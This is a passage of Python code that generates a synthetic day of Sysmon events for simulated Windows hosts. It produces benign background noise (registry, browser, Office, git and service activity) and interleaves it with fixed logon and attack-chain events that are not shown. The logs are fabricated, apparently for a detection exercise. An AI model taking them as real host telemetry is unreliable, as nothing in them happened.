                "-ServerName:BackgroundTaskHost.WebAccountProvider",
                as_user=False,
            )
        out = [self.e1(h, t, p, parent)]
        t = self._step(t)
        out.append(self.e7(h, t, p, C.DLLS[9]))
        t = self._step(t)
        out.append(
            self.e13(
                h,
                t,
                p,
                "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\"
                "Microsoft\\Windows\\Maintenance\\WinSAT\\Index",
                f"DWORD (0x{rng.randrange(1, 64):08x})",
            )
        )
        out.append(self.e5(h, self._step(t, 100, 4000), p))
        return out

    def act_registry(self, h: Host, t: int) -> list[SysmonEvent]:
        rng = self.rng
        p = h.prelog[rng.choice(("svc_netsvcs", "svc_dcom", "services"))]
        k = rng.randrange(4)
        if k == 0:
            target = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Reliability\\LastAliveStamp"
            out = [self.e13(h, t, p, target, _qword(t))]
        elif k == 1:
            target = "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\Version"
            out = [self.e13(h, t, p, target, f"DWORD (0x{rng.randrange(1, 16):08x})")]
        elif k == 2:
            target = (
                "HKLM\\SOFTWARE\\Microsoft\\SystemCertificates\\AuthRoot\\Certificates\\"
                f"{rng.getrandbits(160):040X}"
            )
            out = [self.e12(h, t, p, "CreateKey", target)]
            out.append(self.e13(h, self._step(t, 5, 20), p, target + "\\Blob", "Binary Data"))
        else:
            target = "HKLM\\SYSTEM\\CurrentControlSet\\Services\\W32Time\\Config\\LastKnownGoodTime"
            out = [self.e13(h, t, p, target, _qword(t))]
        return out

    def act_lsass_benign(self, h: Host, t: int) -> list[SysmonEvent]:
        rng = self.rng
        src = h.prelog[rng.choice(("msmpeng", "svc_dcom"))]
        trace = (
            "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
            "C:\\Windows\\System32\\sysmain.dll+4c1e0|C:\\Windows\\System32\\KERNEL32.DLL+17344"
        )
        return [self.e10(h, t, src, h.prelog["lsass"], "0x1000", trace)]

    def act_pipe(self, h: Host, t: int) -> list[SysmonEvent]:
        rng = self.rng
        if rng.random() < 0.5:
            return [self.e17(h, t, h.prelog["svc_dcom"], "\\PIPE_EVENTROOT\\CIMV2SCM EVENT PROVIDER")]
        return [self.e17(h, t, h.prelog["svc_netsvcs"], "\\srvsvc", 18)]

    def act_prefetch(self, h: Host, t: int) -> list[SysmonEvent]:
        rng = self.rng
        name = rng.choice(
            ("CHROME.EXE", "SVCHOST.EXE", "GIT.EXE", "WUAUCLT.EXE", "TASKHOSTW.EXE", "DLLHOST.EXE")
        )
        return [
            self.e11(
                h, t, h.prelog["svc_sysmain"], f"C:\\Windows\\Prefetch\\{name}-{rng.getrandbits(32):08X}.pf"
            )
        ]

    def act_driver(self, h: Host, t: int) -> list[SysmonEvent]:
        return [self.e6(h, t, self.rng.choice(C.DRIVERS))]

    def act_browser(self, h: Host, t: int) -> list[SysmonEvent]:
        rng = self.rng
        out: list[SysmonEvent] = []
        if rng.random() < 0.6:
            p = self._user_app(h, t, "chrome", C.BIN["chrome.exe"], f'"{C.CHROME}" ', out)
        else:
            p = self._user_app(h, t, "msedge", C.BIN["msedge.exe"], f'"{C.EDGE}" --single-argument', out)
        t = self._step(t, 300, 900)
        for _ in range(rng.randrange(1, 4)):
            name, cname, ips = rng.choice(C.USER_DOMAINS)
            out.append(self.e22(h, t, p, name, _dns_results(cname, ips)))
            t = self._step(t, 10, 120)
            out.append(self.e3(h, t, p, rng.choice(ips), 443, "https"))
            t = self._step(t, 200, 4000)
        if rng.random() < 0.3:
            out.append(
                self.e17(h, t, p, f"\\mojo.{p.pid}.{rng.randrange(1000, 20000)}.{rng.getrandbits(60)}")
            )
        if rng.random() < 0.15:
            fname = rng.choice(("quarterly-report.pdf", "setup-guide.pdf", "minutes.docx", "logo.png"))
            out.append(self.e11(h, self._step(t), p, f"C:\\Users\\{h.user}\\Downloads\\{fname}"))
        p.busy_until = max(e.time_created for e in out)
        return out

    def act_git(self, h: Host, t: int) -> list[SysmonEvent]:
        rng = self.rng
        out: list[SysmonEvent] = []
        code = self._user_app(
            h, t, "code", C.BIN["code.exe"], '"C:\\Program Files\\Microsoft VS Code\\Code.exe" ', out
        )
        t = self._step(t, 300, 2000)
        repo = rng.choice(("inventory-api", "billing-service", "website", "infra-scripts"))
        git = self._spawn(
            h,
            t,
            C.BIN["git.exe"],
            '"C:\\Program Files\\Git\\cmd\\git.exe" status -z -uall',
            as_user=True,
            cwd=f"C:\\Users\\{h.user}\\source\\repos\\{repo}\\",
        )
        out.append(self.e1(h, t, git, code))
        out.append(self.e7(h, self._step(t, 5, 30), git, C.DLLS[0]))
        out.append(self.e5(h, self._step(t, 80, 600), git))
        code.busy_until = max(e.time_created for e in out)
        return out

    def act_office(self, h: Host, t: int) -> list[SysmonEvent]:
        rng = self.rng
        out: list[SysmonEvent] = []
        app, ext, folder = rng.choice(
            (("WINWORD", "docx", "Word"), ("EXCEL", "xlsx", "Excel"), ("POWERPNT", "pptx", "PowerPoint"))
        )
        docname = rng.choice(("Budget 2027", "Team notes", "Roadmap", "Onboarding", "Status report"))
        doc = f"C:\\Users\\{h.user}\\Documents\\{docname}.{ext}"
        p = self._user_app(h, t, app, C.BIN[app.lower() + ".exe"], f'"{C.OFFICE}{app}.EXE" /n "{doc}"', out)
        t = self._step(t, 500, 3000)
        out.append(self.e11(h, t, p, f"C:\\Users\\{h.user}\\Documents\\~${docname[2:]}.{ext}"))
        t = self._step(t)
        out.append(
            self.e13(
                h,
                t,
                p,
                f"HKU\\{h.user_sid}\\Software\\Microsoft\\Office\\16.0\\{folder}\\Options\\AutoRecoverTime",
                f"DWORD (0x{rng.choice((5, 10)):08x})",
            )
        )
        if app == "WINWORD" and rng.random() < 0.1:
            t = self._step(t, 1000, 5000)
            spl = self._spawn(h, t, C.BIN["splwow64.exe"], "C:\\Windows\\splwow64.exe 12288", as_user=True)
            out.append(self.e1(h, t, spl, p))
            out.append(self.e5(h, self._step(t, 2000, 9000), spl))
        p.busy_until = max(e.time_created for e in out)
        return out

    def act_outlook(self, h: Host, t: int) -> list[SysmonEvent]:
        out: list[SysmonEvent] = []
        p = self._user_app(h, t, "OUTLOOK", C.BIN["outlook.exe"], f'"{C.OFFICE}OUTLOOK.EXE" ', out)
        t = self._step(t, 300, 2000)
        name, cname, ips = C.USER_DOMAINS[3]
        out.append(self.e22(h, t, p, name, _dns_results(cname, ips)))
        out.append(self.e3(h, self._step(t, 10, 100), p, ips[0], 443, "https"))
        p.busy_until = max(e.time_created for e in out)
        return out

    def act_explorer(self, h: Host, t: int) -> list[SysmonEvent]:
        rng = self.rng
        assert h.explorer is not None
        base = f"HKU\\{h.user_sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\"
        k = rng.randrange(3)
        if k == 0:
            return [
                self.e13(
                    h,
                    t,
                    h.explorer,
                    base + "FeatureUsage\\AppSwitched\\Microsoft.Windows.Explorer",
                    f"DWORD (0x{rng.randrange(1, 400):08x})",
                )
            ]
        if k == 1:
            return [
                self.e13(
                    h,
                    t,
                    h.explorer,
                    base + "UserAssist\\{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}\\Count\\HRZR_PGYFRFFVBA",
                    "Binary Data",
                )
            ]
        dll = rng.choice(C.DLLS[:12])
        return [self.e7(h, t, h.explorer, dll)]

    def act_close(self, h: Host, t: int) -> list[SysmonEvent]:
        idle = [k for k, p in h.apps.items() if p.busy_until < t]
        if not idle:
            return self.act_explorer(h, t)
        key = idle[self.rng.randrange(len(idle))]
        p = h.apps.pop(key)
        return [self.e5(h, t, p)]

    # ------------------------------------------------------------------ the stream
    def run(self) -> Iterator[SysmonEvent]:
        rng = self.rng
        heap: list[tuple[int, int, SysmonEvent]] = []
        seq = 0
        for ev in self.fixed:
            heap.append((ev.time_created, seq, ev))
            seq += 1
        heapq.heapify(heap)
        system_acts: list[tuple[Callable[[Host, int], list[SysmonEvent]], int]] = [
            (self.act_svc_net, 30),
            (self.act_registry, 25),
            (self.act_windows_update, 6),
            (self.act_task, 10),
            (self.act_lsass_benign, 6),
            (self.act_pipe, 10),
            (self.act_prefetch, 8),
            (self.act_driver, 1),
        ]
        user_acts: list[tuple[Callable[[Host, int], list[SysmonEvent]], int]] = [
            (self.act_browser, 40),
            (self.act_git, 12),
            (self.act_office, 14),
            (self.act_outlook, 10),
            (self.act_explorer, 12),
            (self.act_close, 8),
        ]
        sys_fns = [f for f, _ in system_acts]
        sys_w = [w for _, w in system_acts]
        all_fns = sys_fns + [f for f, _ in user_acts]
        all_w = [w // 2 for w in sys_w] + [w for _, w in user_acts]
        end = self.t0 + DAY - 2 * MINUTE
        remaining = self.background
        per_activity = 4.5
        t = self.t0 + rng.randrange(0, 1000) * MS
        n_hosts = len(self.hosts)
        while True:
            while remaining > 0 and (not heap or heap[0][0] >= t):
                h = self.hosts[rng.randrange(n_hosts)]
                user_ok = h.explorer is not None and h.logon_time is not None and t > h.logon_time + 10 * SEC
                fn = rng.choices(all_fns, all_w)[0] if user_ok else rng.choices(sys_fns, sys_w)[0]
                evs = fn(h, t)
                if len(evs) > remaining:
                    evs.sort(key=lambda e: e.time_created)
                    evs = evs[:remaining]
                remaining -= len(evs)
                for ev in evs:
                    heapq.heappush(heap, (ev.time_created, seq, ev))
                    seq += 1
                mean_gap = max(end - t, MS) * per_activity / max(remaining, 1)
                t += max(MS, int(rng.expovariate(1.0) * mean_gap))
            if not heap:
                return
            ev = heapq.heappop(heap)[2]
            h = self.by_name[ev.host]
            ev.record_id = h.next_record
            h.next_record += 1
            yield ev


def generate(
    events: int,
    seed: int,
    hosts: int = 6,
    start: datetime = DEFAULT_START,
) -> Iterator[SysmonEvent]:
    """Yield ``events`` Sysmon events of one day starting at ``start`` (UTC midnight by
    convention), in TimeCreated order, deterministic for a given (events, seed, hosts, start)."""
    if events <= 0:
        raise ValueError("events must be positive")
    day = _Day(events, seed, hosts, start)
    return day.run()


def minimum_events(hosts: int = 6, start: datetime = DEFAULT_START) -> int:
    """The smallest event count the scenario fits in (logons + the attack chain)."""
    return len(_Day(10**9, 0, hosts, start).fixed)
